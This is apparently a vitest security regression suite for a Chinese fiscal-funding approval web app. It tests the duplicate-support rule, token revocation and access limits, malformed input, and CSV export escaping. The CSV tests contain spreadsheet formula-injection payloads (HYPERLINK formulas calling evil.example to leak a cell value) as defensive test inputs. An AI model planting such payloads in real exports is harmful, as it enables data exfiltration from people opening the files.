import { randomUUID } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import type { Server } from 'node:http';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addApplicantUser } from '../../src/admin/standard-directory.ts';
import { revokeTokenCommand } from '../../src/cli/tokens.command.ts';
import { deactivateUserCommand } from '../../src/cli/users.command.ts';
import { createApp } from '../../src/http/app.ts';
import { addOrganisation, hashToken, issueApiToken } from '../../src/store/users.store.ts';
import { createTestDatabase, type TestDatabase } from '../support/database.ts';
import { driveTo } from '../support/drive.ts';
import { apiClient, sampleProposal, sampleTargets, startTestApp, type TestApp } from '../support/test-app.ts';
import { uploadSampleOverHttp } from '../support/materials.ts';

let database: TestDatabase;
let app: TestApp;
let api: ReturnType<typeof apiClient>;

beforeAll(async () => {
  database = await createTestDatabase();
  app = await startTestApp(database.db);
  api = apiClient(app.baseUrl);
});
afterAll(async () => {
  await app?.close();
  await database?.drop();
});

/** A valid credit code from 17 characters (GB 32100-2015 check character). */
function codeFrom(body17: string): string {
  const alphabet = '0123456789ABCDEFGHJKLMNPQRTUWXY';
  const sum = [...body17].reduce((acc, char, i) => acc + alphabet.indexOf(char) * (3 ** i % 31), 0);
  return body17 + alphabet[(31 - (sum % 31)) % 31];
}

async function listen(built: ReturnType<typeof createApp>['app']): Promise<{ base: string; close: () => Promise<void> }> {
  const server: Server = await new Promise((resolve) => {
    const listening = built.listen(0, '127.0.0.1', () => resolve(listening));
  });
  return {
    base: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

const event = async (id: string, token: string, body: Record<string, unknown>) => {
  // A proposal goes in with its 申报书 and 预算明细, uploaded by the same applicant.
  if (body.type === 'SUBMIT') for (const kind of ['proposal', 'budget'] as const) await uploadSampleOverHttp(app.baseUrl, token, id, kind);
  return api('POST', `/api/v1/projects/${id}/events`, { token, body });
};

describe('就高不重复 cannot be dodged by leaving the credit code out (high)', () => {
  const registered = codeFrom('91140522MA0K70001');
  const other = codeFrom('91140522MA0K70002');
  let applicantToken = '';

  beforeAll(async () => {
    const org = await addOrganisation(app.db, { name: `阳城某精密制造有限公司-${randomUUID()}`, kind: 'enterprise', creditCode: registered });
    applicantToken = (await addApplicantUser(app.db, org.id, `ent-${randomUUID()}@yc.test`, '企业申报人')).token;
    await api('POST', '/api/v1/beneficiaries', { token: app.users.center.token, body: { creditCode: registered, name: '阳城某精密制造有限公司' } });
    const support = await api('POST', `/api/v1/beneficiaries/${registered}/prior-support`, {
      token: app.users.finance.token,
      body: { policy: '晋城市专精特新奖励', level: 'municipal', year: 2024, item: 11, amountFen: 20_000_000 },
    });
    expect(support.status).toBe(201);
  });

  async function propose(token: string, overrides: Record<string, unknown>): Promise<string> {
    const created = await api('POST', '/api/v1/projects', { token, body: sampleProposal(overrides) });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    return created.body.id;
  }

  it('uses the applicant organisation\'s registered code when none is typed: the overlap refuses the final approval', async () => {
    const id = await propose(applicantToken, { item: 11, requestedFen: 12_000_000 });
    expect((await event(id, applicantToken, { type: 'SUBMIT' })).status).toBe(200);
    expect((await event(id, app.users.center.token, { type: 'APPROVE' })).status).toBe(200);
    const final = await event(id, app.users.finance.token, { type: 'APPROVE' });
    expect(final.status).toBe(422);
    expect(final.body.detail).toMatch(/就高不重复/);
  });

  it('refuses a typed code that differs from the registered one until center staff confirm it at review (audited)', async () => {
    const id = await propose(applicantToken, { item: 11, requestedFen: 12_000_000, beneficiaryCreditCode: other });
    expect((await event(id, applicantToken, { type: 'SUBMIT' })).status).toBe(200);
    const unconfirmed = await event(id, app.users.center.token, { type: 'APPROVE' });
    expect(unconfirmed.status).toBe(422);
    expect(unconfirmed.body.reasons).toEqual(['beneficiary-code-unconfirmed']);
    const wrong = await event(id, app.users.center.token, { type: 'APPROVE', confirmBeneficiaryCreditCode: registered });
    expect(wrong.status).toBe(422);
    const confirmed = await event(id, app.users.center.token, { type: 'APPROVE', confirmBeneficiaryCreditCode: other });
    expect(confirmed.status, JSON.stringify(confirmed.body)).toBe(200);
    // Only center confirms: finance naming a code is bad input.
    const byFinance = await event(id, app.users.finance.token, { type: 'APPROVE', confirmBeneficiaryCreditCode: other });
    expect(byFinance.status).toBe(400);
    expect(byFinance.body.errors[0].field).toBe('confirmBeneficiaryCreditCode');
    const final = await event(id, app.users.finance.token, { type: 'APPROVE' });
    expect(final.status, JSON.stringify(final.body)).toBe(200);
    const history = await api('GET', `/api/v1/projects/${id}/history`, { token: app.users.center.token });
    const centerApprove = history.body.events.filter((e: { type: string; actor: { role: string } }) => e.type === 'APPROVE' && e.actor.role === 'center');
    expect(centerApprove).toHaveLength(1);
    expect(centerApprove[0].payload.confirmBeneficiaryCreditCode).toBe(other);
  });

  it('an item that benefits an enterprise needs a beneficiary code; a public-service item does not', async () => {
    // The test app's applicant is a township with no registered code.
    const enterpriseItem = (await driveTo(app, 'proposed.draft', { item: 12 })).id;
    const refused = await event(enterpriseItem, app.users.applicant.token, { type: 'SUBMIT' });
    expect(refused.status).toBe(422);
    expect(refused.body.reasons).toEqual(['beneficiary-code-required']);
    const publicService = (await driveTo(app, 'proposed.draft', { item: 5 })).id;
    expect((await event(publicService, app.users.applicant.token, { type: 'SUBMIT' })).status).toBe(200);
  });
});

describe('CSV formula injection (medium)', () => {
  it('the public disclosure CSV neutralises a title that starts like a formula', async () => {
    const title = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
    await driveTo(app, 'approved', { title });
    await driveTo(app, 'approved', { title: '@SUM(1+1)' });
    const csv = await fetch(`${app.baseUrl}/api/v1/public/projects.csv`).then((r) => r.text());
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`);
    expect(csv).toContain(`"'@SUM(1+1)"`);
    // No field anywhere starts a formula.
    const fields = csv.split(/\r\n/).flatMap((line) => line.split(','));
    expect(fields.length).toBeGreaterThan(4);
    expect(fields.filter((field) => /^"?[=+\-@\t\r]/.test(field) && !/^-?\d/.test(field))).toEqual([]);
  });

  it('the evaluation report CSV neutralises an indicator name the applicant wrote', async () => {
    const targets = sampleTargets.map((target) => (target.id === 'OUT1' ? { ...target, name: '=HYPERLINK("http://evil.example","培训场次")' } : target));
    const project = await driveTo(app, 'evaluated.finance-review', { targets });
    const response = await fetch(`${app.baseUrl}/api/v1/reports/evaluation/${project.id}?format=csv`, { headers: { authorization: `Bearer ${app.users.finance.token}` } });
    expect(response.status).toBe(200);
    const csv = await response.text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""培训场次"")"`);
    expect(csv).not.toMatch(/(^|,)=/m);
  });
});

describe('beneficiary changes are append-only with history (medium)', () => {
  it('keeps every version with who and when; reads see the latest', async () => {
    const code = codeFrom('91140522MA0K70003');
    const first = await api('POST', '/api/v1/beneficiaries', { token: app.users.center.token, body: { creditCode: code, name: '甲公司', listingReserve: true, listingReserveSince: '2024-01-01' } });
    expect(first.body.version).toBe(1);
    const second = await api('POST', '/api/v1/beneficiaries', { token: app.users.finance.token, body: { creditCode: code, name: '甲公司', listingReserve: true, listingReserveSince: '2023-01-01' } });
    expect(second.body.version).toBe(2);
    expect((await api('GET', `/api/v1/beneficiaries/${code}`, { token: app.users.center.token })).body.listingReserveSince).toBe('2023-01-01');
    const history = await api('GET', `/api/v1/beneficiaries/${code}/history`, { token: app.users.supervisor.token });
    expect(history.status).toBe(200);
    expect(history.body.items).toMatchObject([
      { version: 1, listingReserveSince: '2024-01-01', changedBy: app.users.center.id },
      { version: 2, listingReserveSince: '2023-01-01', changedBy: app.users.finance.id },
    ]);
    expect(history.body.items[0].changedAt).toBe(app.clock.now().toISOString());
    await expect(app.db.query('UPDATE beneficiary_versions SET listing_reserve_since = NULL WHERE credit_code = $1', [code])).rejects.toThrow(/append-only/);
  });
});

describe('losing access (issue 15): revoked tokens and deactivated users, with the token cache on', () => {
  let now = Date.parse('2024-10-08T02:00:00Z');
  let cached: { base: string; close: () => Promise<void> };
  let cachedApi: ReturnType<typeof apiClient>;

  beforeAll(async () => {
    const { app: built } = createApp({
      engine: app.engine,
      publicUrl: 'http://localhost',
      bodyLimit: '256kb',
      tokenCacheSeconds: 5,
      authNow: () => now,
      logError: (error) => console.error('unexpected', error),
    });
    cached = await listen(built);
    cachedApi = apiClient(cached.base);
  });
  afterAll(async () => cached?.close());

  const projects = (token: string) => cachedApi('GET', '/api/v1/projects', { token });

  it('a token revoked elsewhere (the CLI) stops working within TOKEN_CACHE_SECONDS, not before the cache ends and not after', async () => {
    const token = await issueApiToken(app.db, app.users.center.id, 'losing-access');
    expect((await projects(token)).status).toBe(200); // cached now
    await revokeTokenCommand(app.db, { token });
    now += 4_900;
    expect((await projects(token)).status).toBe(200); // still cached: the CLI cannot reach this process
    now += 200;
    expect((await projects(token)).status).toBe(401);
  });

  it('a token revoked through the same process stops at once; admins only', async () => {
    const token = await issueApiToken(app.db, app.users.center.id, 'losing-access-2');
    expect((await projects(token)).status).toBe(200);
    expect((await cachedApi('POST', '/api/v1/admin/tokens/revoke', { token: app.users.finance.token, body: { token } })).status).toBe(403);
    const revoked = await cachedApi('POST', '/api/v1/admin/tokens/revoke', { token: app.users.admin.token, body: { token: hashToken(token) } });
    expect(revoked.status).toBe(200);
    expect(revoked.body.revokedAt).toEqual(expect.any(String));
    expect((await projects(token)).status).toBe(401);
  });

  it('a deactivated user stops within TOKEN_CACHE_SECONDS (CLI) or at once (API); their unused links are revoked with their tokens', async () => {
    const org = await addOrganisation(app.db, { name: `离职测试单位-${randomUUID()}`, kind: 'unit' });
    const viaCli = await addApplicantUser(app.db, org.id, `leaver-${randomUUID()}@yc.test`, '离职甲');
    const viaApi = await addApplicantUser(app.db, org.id, `leaver-${randomUUID()}@yc.test`, '离职乙');
    const project = await driveTo(app, 'proposed.draft');
    const taskId = randomUUID();
    await app.db.query(
      `INSERT INTO tasks (id, project_id, kind, role, status, due_date, opened_seq, created_at) VALUES ($1, $2, 'review', 'applicant', 'open', '2024-12-31', 1, now())`,
      [taskId, project.id],
    );
    const links = async (userId: string) =>
      (await app.db.query<{ revoked_reason: string | null }>('SELECT revoked_reason FROM task_links WHERE user_id = $1', [userId])).map((row) => row.revoked_reason);
    for (const user of [viaCli, viaApi]) {
      await app.db.query(`INSERT INTO task_links (token_hash, task_id, user_id, expires_at, created_at) VALUES ($1, $2, $3, now() + interval '7 days', now())`, [
        hashToken(randomUUID()),
        taskId,
        user.id,
      ]);
      expect((await projects(user.token)).status).toBe(200);
    }

    const cli = await deactivateUserCommand(app.db, { email: viaCli.email });
    expect(cli).toMatchObject({ tokensRevoked: 1, linksRevoked: 1 });
    expect(await links(viaCli.id)).toEqual(['user-deactivated']);
    now += 4_000;
    expect((await projects(viaCli.token)).status).toBe(200);
    now += 1_001;
    expect((await projects(viaCli.token)).status).toBe(401);

    expect((await projects(viaApi.token)).status).toBe(200);
    const deactivated = await cachedApi('POST', `/api/v1/admin/users/${viaApi.id}/deactivate`, { token: app.users.admin.token });
    expect(deactivated.status, JSON.stringify(deactivated.body)).toBe(200);
    expect(deactivated.body).toMatchObject({ active: false, tokensRevoked: 1, linksRevoked: 1 });
    expect(await links(viaApi.id)).toEqual(['user-deactivated']);
    expect((await projects(viaApi.token)).status).toBe(401);
  });

  it('a token stops at its expiry, even while cached', async () => {
    const token = await issueApiToken(app.db, app.users.center.id, 'expiring', new Date(now + 2_000));
    expect((await projects(token)).status).toBe(200);
    now += 2_001;
    expect((await projects(token)).status).toBe(401);
  });
});

describe('malformed requests are 400 problems, never 500 (low)', () => {
  const expectProblem = async (response: Response, pattern: RegExp) => {
    const body = (await response.json()) as { detail: string };
    expect(response.status, JSON.stringify(body)).toBe(400);
    expect(response.headers.get('content-type')).toMatch(/application\/problem\+json/);
    expect(body.detail).toMatch(pattern);
  };

  it.each([
    ['NUL in the path', '/t/abc%00def', /NUL/],
    ['a lone surrogate in the path', '/t/abc%ED%A0%80', /malformed percent-encoding/],
    ['malformed percent-encoding in the path', '/t/%E0%A4%A', /malformed percent-encoding/],
    ['malformed percent-encoding in the query', '/api/v1/public/projects?item=%ZZ', /query\.item .*malformed percent-encoding/],
    ['NUL in the query', '/api/v1/public/projects?item=1%00', /query\.item .*NUL/],
  ])('%s', async (_name, path, pattern) => {
    await expectProblem(await fetch(`${app.baseUrl}${path}`), pattern);
  });

  it('NUL and a lone surrogate in a JSON body name the field', async () => {
    const nul = await fetch(`${app.baseUrl}/api/v1/projects`, {
      method: 'POST',
      headers: { authorization: `Bearer ${app.users.applicant.token}`, 'content-type': 'application/json' },
      body: JSON.stringify(sampleProposal({ title: 'a\u0000b' })),
    });
    await expectProblem(nul, /^title .*NUL/);
    const surrogate = await fetch(`${app.baseUrl}/api/v1/projects`, {
      method: 'POST',
      headers: { authorization: `Bearer ${app.users.applicant.token}`, 'content-type': 'application/json' },
      body: '{"title":"x\\ud800y","item":5}',
    });
    await expectProblem(surrogate, /^title .*lone surrogate/);
  });

  it('a broken gzip body', async () => {
    const gzip = gzipSync(Buffer.from(JSON.stringify({ type: 'SUBMIT' })));
    const broken = Buffer.concat([gzip.subarray(0, 12), Buffer.from('not gzip at all')]);
    const response = await fetch(`${app.baseUrl}/api/v1/projects`, {
      method: 'POST',
      headers: { authorization: `Bearer ${app.users.applicant.token}`, 'content-type': 'application/json', 'content-encoding': 'gzip' },
      body: broken,
    });
    await expectProblem(response, /Content-Encoding/);
  });
});

describe('/metrics is guarded and its SQL aggregates are cached (low)', () => {
  it('asks for METRICS_TOKEN when set; answers loopback only when not; keeps the aggregates for the cache time', async () => {
    const { Queue } = await import('bullmq');
    const { Redis } = await import('ioredis');
    const connection = new Redis(process.env.REDIS_URL ?? 'redis://127.0.0.1:6379', { maxRetriesPerRequest: null });
    const queue = new Queue('reminders', { connection, prefix: `ffsecurity${Date.now()}` });
    let now = 1_000_000;
    const { registerQueueMetrics } = await import('../../src/http/queue-observability.ts');
    const { createMetrics } = await import('../../src/http/metrics.ts');
    const metrics = createMetrics();
    registerQueueMetrics(metrics, app.db, [queue], { cacheSeconds: 15, now: () => now });
    const { app: built } = createApp({ engine: app.engine, publicUrl: 'http://localhost', bodyLimit: '256kb', tokenCacheSeconds: 0, logError: () => {}, metrics, metricsToken: 'metrics-token-0123456789' });
    const served = await listen(built);
    try {
      expect((await fetch(`${served.base}/metrics`)).status).toBe(401);
      expect((await fetch(`${served.base}/metrics`, { headers: { authorization: 'Bearer wrong-token-0123456789' } })).status).toBe(401);
      const scrape = () => fetch(`${served.base}/metrics`, { headers: { authorization: 'Bearer metrics-token-0123456789' } }).then((r) => r.text());
      const count = (text: string) => Number(/fundflow_deliveries\{status="failed"\} (\d+)/.exec(text)?.[1] ?? 0);
      const before = count(await scrape());
      await app.db.query(`INSERT INTO deliveries (delivery_key, user_id, email, message_id, status) VALUES ($1, $2, 'x@yc.test', $1, 'failed')`, [
        `security-${randomUUID()}`,
        app.users.center.id,
      ]);
      expect(count(await scrape())).toBe(before); // cached
      now += 15_001;
      expect(count(await scrape())).toBe(before + 1);
    } finally {
      await served.close();
      await queue.close();
      connection.disconnect();
    }
  });
});

describe('/dev/mail answers loopback clients only, unless DEV_MAIL_REMOTE opts in (high)', () => {
  it('a network client is refused, X-Forwarded-For notwithstanding; the opt-in shares it', async () => {
    const os = await import('node:os');
    const external = Object.values(os.networkInterfaces()).flat().find((info) => info && info.family === 'IPv4' && !info.internal)?.address;
    expect(external, 'this test needs a non-loopback IPv4 address').toBeDefined();
    const serve = async (devMailRemote: boolean) => {
      const { app: built } = createApp({ engine: app.engine, publicUrl: 'http://localhost', bodyLimit: '256kb', tokenCacheSeconds: 0, logError: () => {}, devPages: true, devMailRemote });
      const server: Server = await new Promise((resolve) => {
        const listening = built.listen(0, '0.0.0.0', () => resolve(listening));
      });
      return { port: (server.address() as AddressInfo).port, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
    };
    const closed = await serve(false);
    const shared = await serve(true);
    try {
      const refused = await fetch(`http://${external}:${closed.port}/dev/mail`, { headers: { 'x-forwarded-for': '127.0.0.1' } });
      expect(refused.status).toBe(403);
      expect(refused.headers.get('content-type')).toMatch(/problem\+json/);
      expect((await fetch(`http://127.0.0.1:${closed.port}/dev/mail`)).status).toBe(200);
      expect((await fetch(`http://${external}:${shared.port}/dev/mail`)).status).toBe(200);
    } finally {
      await closed.close();
      await shared.close();
    }
  });
});

describe('the queue board is read-only (medium)', () => {
  it('an admin can look but cannot add, retry, promote or clean a job through the board API', async () => {
    const { Queue } = await import('bullmq');
    const { Redis } = await import('ioredis');
    const connection = new Redis(process.env.REDIS_URL ?? 'redis://127.0.0.1:6379', { maxRetriesPerRequest: null });
    const queue = new Queue('effects', { connection, prefix: `ffboard${Date.now()}` });
    const { app: built } = createApp({ engine: app.engine, publicUrl: 'http://localhost', bodyLimit: '256kb', tokenCacheSeconds: 0, logError: () => {}, queues: [queue] });
    const served = await listen(built);
    const admin = { authorization: `Bearer ${app.users.admin.token}`, 'content-type': 'application/json' };
    try {
      await queue.add('task.open', { projectId: 'x' }, { delay: 3_600_000, jobId: 'board-probe' });
      const look = await fetch(`${served.base}/admin/queues/api/queues?activeQueue=effects&status=delayed&page=1`, { headers: admin });
      expect(look.status).toBe(200);
      expect(JSON.stringify(await look.json())).toContain('board-probe');
      const writes: [string, string, unknown?][] = [
        ['POST', '/api/queues/effects/add', { name: 'task.close', data: { projectId: 'x', by: 'finance' } }],
        ['PUT', '/api/queues/effects/retry/failed'],
        ['PUT', '/api/queues/effects/board-probe/promote'],
        ['PUT', '/api/queues/effects/promote'],
        ['PUT', '/api/queues/effects/clean/delayed'],
        ['PUT', '/api/queues/effects/board-probe/clean'],
        ['PUT', '/api/queues/effects/empty'],
        ['PUT', '/api/queues/effects/pause'],
        ['PUT', '/api/queues/pause'],
      ];
      for (const [method, path, body] of writes) {
        const response = await fetch(`${served.base}/admin/queues${path}`, { method, headers: admin, ...(body ? { body: JSON.stringify(body) } : {}) });
        expect(response.status, `${method} ${path}`).toBeGreaterThanOrEqual(400);
      }
      expect(await queue.getJobCounts('waiting', 'delayed', 'active')).toEqual({ waiting: 0, delayed: 1, active: 0 });
      expect(await queue.isPaused()).toBe(false);
      expect(await (await queue.getJob('board-probe'))?.getState()).toBe('delayed');
    } finally {
      await served.close();
      await queue.obliterate({ force: true });
      await queue.close();
      connection.disconnect();
    }
  });
});
